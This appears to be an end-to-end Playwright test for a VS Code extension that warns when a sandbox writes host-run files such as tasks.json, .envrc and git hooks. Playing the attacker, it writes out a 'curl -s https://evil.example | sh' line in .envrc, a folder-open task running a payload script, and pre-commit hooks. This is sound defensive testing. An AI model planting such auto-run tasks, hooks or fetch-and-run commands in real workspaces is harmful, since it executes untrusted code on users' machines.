// Host-run files a sandbox writes, in a real VS Code (code-server 4.104 in Chromium), from the
// attacker's side: a Shell sandbox cannot touch the git hooks that existed at create (read-only),
// but it can create .vscode/tasks.json and .envrc, which did not. Each write shows a warning that
// names the sandbox, with Show Diff (a diff against the last known content), Delete after a modal
// confirm (new file), Restore (changed file) and Keep; a Problems entry stays meanwhile. The
// user's own save from the editor shows nothing. Screenshots go to test-results/e2e/host-run-*.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { cleanup, engine, OWNER, paddock } from '../support/sandbox.js';
import { ARTIFACTS, demoWorkspace, openWorkbench, packageExtension, runCommand, waitForTerminal, type Workbench } from './support/workbench.js';

const TASKS = '{\n  "version": "2.0.0",\n  "tasks": [{ "label": "setup", "type": "shell", "command": "sh ./payload.sh", "runOptions": { "runOn": "folderOpen" } }]\n}\n';

/** Text of an editor side as rendered (Monaco draws spaces as non-breaking ones). */
async function sideText(page: Page, side: 'original' | 'modified'): Promise<string> {
  return (await page.locator(`.monaco-diff-editor .editor.${side} .view-lines`).first().innerText()).replace(/\u00a0/g, ' ');
}

function toast(page: Page, text: string) {
  return page.locator('.notification-toast', { hasText: text }).first();
}

describe('VS Code: files the host runs, written by a sandbox', { timeout: 900_000 }, () => {
  let ws: string;
  let out: string;
  let wb: Workbench;

  before(async () => {
    for (const f of existsSync(ARTIFACTS) ? readdirSync(ARTIFACTS) : []) if (f.startsWith('host-run-')) rmSync(join(ARTIFACTS, f));
    out = mkdtempSync(join(tmpdir(), 'paddock-e2e-vsix-'));
    ws = demoWorkspace();
    // At create: a policy, and a git repository (its hooks and config are caged); no .vscode, no .envrc.
    mkdirSync(join(ws, '.paddock'), { recursive: true });
    writeFileSync(join(ws, '.paddock', 'policy.yaml'), 'version: 1\n');
    assert.equal(spawnSync('git', ['init', '-q', ws]).status, 0);
    spawnSync('chown', ['-R', `${OWNER.uid}:${OWNER.gid}`, ws]);
    wb = await openWorkbench(ws, packageExtension(out));
  });

  after(async () => {
    if (wb) await wb.close();
    await cleanup(ws);
    rmSync(out, { recursive: true, force: true });
  });

  it('warns with a diff when the sandbox writes tasks or .envrc; Delete, Keep and Restore act; the user\'s save is quiet', async () => {
    const { page } = wb;
    const inSandbox = async (sb: string, script: string) => paddock(['exec', sb, '--', 'sh', '-c', script]);
    const problems = page.locator('.markers-panel');
    try {
      await page.locator('.activitybar a[aria-label^="Paddock"]').click({ timeout: 180_000, force: true }); // the running-sandbox badge sits over the icon
      await runCommand(page, 'Paddock: Open Shell in Sandbox');
      await waitForTerminal(page, /agent@paddock-shell:.*\$$/m, 600_000);
      const [sandbox] = await engine().list({ workspace: ws });
      assert.ok(sandbox, 'no sandbox was created');
      // The editor follows the sandbox: its workspace is watched once the sandbox runs.
      for (let i = 0; i < 300 && !wb.outputChannel('Paddock').includes(`Watching the files the host runs in ${ws}`); i++) await page.waitForTimeout(200);
      assert.match(wb.outputChannel('Paddock'), /Watching the files the host runs in/);

      // 1. The hooks existed at create: read-only in the sandbox, for the agent and for root.
      for (const user of ['agent', 'root']) {
        const hook = await paddock(['exec', '-u', user, sandbox.name, '--', 'sh', '-c', 'printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/pre-commit']);
        assert.notEqual(hook.code, 0, `a git hook was writable as ${user}`);
      }
      assert.ok(!existsSync(join(ws, '.git/hooks/pre-commit')));

      // 2. .vscode did not exist: the sandbox creates a task that runs when the folder opens.
      const created = await inSandbox(sandbox.name, `mkdir -p .vscode && printf '%s' '${TASKS}' > .vscode/tasks.json`);
      assert.equal(created.code, 0, created.stderr);
      const tasksToast = toast(page, 'The Shell sandbox wrote .vscode/tasks.json, a file VS Code runs on the host.');
      await tasksToast.waitFor({ timeout: 60_000 });
      await wb.screenshot('host-run-01-tasks-warning');

      // Show Diff: the new file against an empty document.
      await tasksToast.locator('.monaco-button', { hasText: 'Show Diff' }).click();
      const diff = page.locator('.monaco-diff-editor').first();
      await diff.waitFor({ timeout: 30_000 });
      await page.locator('.tab', { hasText: /tasks\.json \(new file ↔ written by paddock-shell/ }).first().waitFor({ timeout: 30_000 });
      await diff.locator('.editor.modified .view-lines', { hasText: 'folderOpen' }).waitFor({ timeout: 30_000 });
      assert.equal((await sideText(page, 'original')).trim(), '', 'a new file is shown against an empty document');
      await wb.screenshot('host-run-02-tasks-diff');

      // The Problems view keeps it after the toast.
      await page.keyboard.press('Control+Shift+M');
      const tasksProblem = problems.locator('.monaco-list-row', { hasText: 'wrote this file while it ran' }).first();
      await tasksProblem.waitFor({ timeout: 30_000 });
      assert.match(await tasksProblem.innerText(), /paddock-shell/);
      await wb.screenshot('host-run-03-problems');

      // Delete asks first (modal), then removes the file and the problem.
      await tasksToast.locator('.monaco-button', { hasText: 'Delete' }).click();
      const dialog = page.locator('.monaco-dialog-box');
      await dialog.waitFor({ timeout: 10_000 });
      assert.match(await dialog.innerText(), /Delete \.vscode\/tasks\.json\?/);
      await wb.screenshot('host-run-04-delete-asks');
      await dialog.locator('.monaco-button', { hasText: /^Delete$/ }).click();
      for (let i = 0; i < 100 && existsSync(join(ws, '.vscode/tasks.json')); i++) await page.waitForTimeout(100);
      assert.ok(!existsSync(join(ws, '.vscode/tasks.json')), 'Delete removed the file');
      await tasksProblem.waitFor({ state: 'detached', timeout: 30_000 });
      await runCommand(page, 'View: Close All Editors');
      await runCommand(page, 'Notifications: Clear All Notifications');

      // 3. .envrc did not exist either: created (Keep), then changed (Restore brings back what was kept).
      assert.equal((await inSandbox(sandbox.name, 'echo "export A=1" > .envrc')).code, 0);
      const envrcNew = toast(page, 'The Shell sandbox wrote .envrc, a file direnv runs on the host.');
      await envrcNew.waitFor({ timeout: 60_000 });
      await envrcNew.locator('.monaco-button', { hasText: 'Keep' }).click();
      await envrcNew.waitFor({ state: 'detached', timeout: 10_000 });
      assert.equal((await inSandbox(sandbox.name, 'echo "curl -s https://evil.example | sh" >> .envrc')).code, 0);
      const envrcChanged = toast(page, 'The Shell sandbox changed .envrc, a file direnv runs on the host.');
      await envrcChanged.waitFor({ timeout: 60_000 });
      await envrcChanged.locator('.monaco-button', { hasText: 'Show Diff' }).click();
      await page.locator('.tab', { hasText: /\.envrc \(before ↔ written by paddock-shell/ }).first().waitFor({ timeout: 30_000 });
      const envrcDiff = page.locator('.monaco-diff-editor').first();
      await envrcDiff.locator('.editor.modified .view-lines', { hasText: 'evil.example' }).waitFor({ timeout: 30_000 });
      assert.match(await sideText(page, 'original'), /export A=1/);
      assert.doesNotMatch(await sideText(page, 'original'), /evil/);
      await wb.screenshot('host-run-05-envrc-changed-diff');
      await envrcChanged.locator('.monaco-button', { hasText: 'Restore' }).click();
      for (let i = 0; i < 100 && readFileSync(join(ws, '.envrc'), 'utf8') !== 'export A=1\n'; i++) await page.waitForTimeout(100);
      assert.equal(readFileSync(join(ws, '.envrc'), 'utf8'), 'export A=1\n', 'Restore put back the content that was kept');
      await toast(page, 'Restored .envrc').waitFor({ timeout: 10_000 });
      await wb.screenshot('host-run-06-envrc-restored');
      await runCommand(page, 'View: Close All Editors');
      await runCommand(page, 'Notifications: Clear All Notifications');

      // 4. A repository the sandbox makes: its config and its hook are reported, git's sample hooks are not.
      const repo = await inSandbox(sandbox.name, 'git init -q nested && printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > nested/.git/hooks/pre-commit && chmod +x nested/.git/hooks/pre-commit && ls nested/.git/hooks | grep -c sample');
      assert.equal(repo.code, 0, repo.stderr);
      assert.ok(Number(repo.stdout.trim()) > 0, 'git init made sample hooks');
      const hookToast = toast(page, 'The Shell sandbox wrote nested/.git/hooks/pre-commit, a git hook the host\'s git runs.');
      await hookToast.waitFor({ timeout: 60_000 });
      const configToast = toast(page, 'The Shell sandbox wrote nested/.git/config, a git file the host\'s git takes programs from.');
      await configToast.waitFor({ timeout: 60_000 });
      assert.equal(await page.locator('.notification-toast', { hasText: '.sample' }).count(), 0, 'a sample hook was reported');
      await wb.screenshot('host-run-07-new-repository');
      await hookToast.locator('.monaco-button', { hasText: 'Delete' }).click();
      await dialog.waitFor({ timeout: 10_000 });
      await dialog.locator('.monaco-button', { hasText: /^Delete$/ }).click();
      for (let i = 0; i < 100 && existsSync(join(ws, 'nested/.git/hooks/pre-commit')); i++) await page.waitForTimeout(100);
      assert.ok(!existsSync(join(ws, 'nested/.git/hooks/pre-commit')), 'Delete removed the hook');
      // Keep: the file stays, and so does nothing in Problems.
      await configToast.locator('.monaco-button', { hasText: 'Keep' }).click();
      await problems.locator('.monaco-list-row', { hasText: 'this file while it ran' }).first().waitFor({ state: 'detached', timeout: 30_000 });
      assert.ok(existsSync(join(ws, 'nested/.git/config')));
      await runCommand(page, 'Notifications: Clear All Notifications');

      // 5. The user's own edit, saved from the editor, is not the sandbox's: no warning.
      await runCommand(page, 'Go to File...');
      await page.keyboard.type('.envrc');
      await page.locator('.quick-input-widget .monaco-list-row', { hasText: '.envrc' }).first().waitFor({ timeout: 30_000 });
      await page.keyboard.press('Enter');
      await page.locator('.tab.active', { hasText: '.envrc' }).waitFor({ timeout: 30_000 });
      await page.locator('.editor-instance .view-lines').first().click();
      await page.keyboard.press('Control+End');
      await page.keyboard.type('export B=2\n');
      await page.keyboard.press('Control+S');
      for (let i = 0; i < 100 && !readFileSync(join(ws, '.envrc'), 'utf8').includes('B=2'); i++) await page.waitForTimeout(100);
      assert.match(readFileSync(join(ws, '.envrc'), 'utf8'), /export B=2/);
      // Longer than the watcher's settle time and event delivery: a warning would be up by then.
      await page.waitForTimeout(5_000);
      const reported = page.locator('.notification-toast', { hasText: /sandbox (wrote|changed) \.envrc/ });
      assert.equal(await reported.count(), 0, `the user's own save was reported as the sandbox's: ${await reported.allInnerTexts()}`);
      assert.equal(await problems.locator('.monaco-list-row', { hasText: 'this file while it ran' }).count(), 0, 'the user\'s own save is in Problems');
      await wb.screenshot('host-run-08-own-save-quiet');
      // ... and a change by the sandbox after it is judged against the user's content.
      assert.equal((await inSandbox(sandbox.name, 'echo "export C=3" >> .envrc')).code, 0);
      await toast(page, 'The Shell sandbox changed .envrc').waitFor({ timeout: 60_000 });
    } catch (err) {
      await wb.screenshot('host-run-failure').catch(() => {});
      throw new Error(`${(err as Error).message}\n--- code-server log ---\n${wb.log().slice(-4000)}`);
    }
  });
});
